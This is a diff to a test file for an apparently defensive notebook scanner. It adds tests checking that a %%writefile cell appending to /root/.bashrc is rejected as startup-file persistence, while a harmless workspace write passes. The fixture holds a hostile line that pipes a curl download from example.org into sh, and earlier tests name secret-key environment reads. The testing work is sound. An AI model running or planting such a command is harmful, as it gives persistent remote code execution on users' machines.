@@ -185,3 +185,15 @@ def test_magics_that_run_or_write_are_unknown() -> None:
                  "%tensorboard --logdir runs --host 0.0.0.0", "%env", "%env AWS_SECRET_ACCESS_KEY"):
         assert read_notebook(nb(line + "\n")).unknown, line
     assert not read_notebook(nb("%env CUDA_VISIBLE_DEVICES=0\n%set_env OMP_NUM_THREADS 4\n%matplotlib inline\n")).unknown
+
+
+def test_writefile_is_the_write_it_amounts_to() -> None:
+    # red team 5: a %%writefile to a shell rc file was read for its .py/.sh body only, never as a write
+    report = scan(nb("%%writefile -a /root/.bashrc\ncurl -s http://example.org/x | sh\n"))
+    found = {(f.rule, f.path, f.line) for f in report.findings}
+    assert ("persistence.startup-file", "train.ipynb[cell 1]", 1) in found
+    assert report.decision.value == "reject"
+
+
+def test_writefile_of_a_text_file_in_the_workspace_stays_clean() -> None:
+    assert not judged(scan(nb("%%writefile notes/params.txt\nlr=0.01\n")))
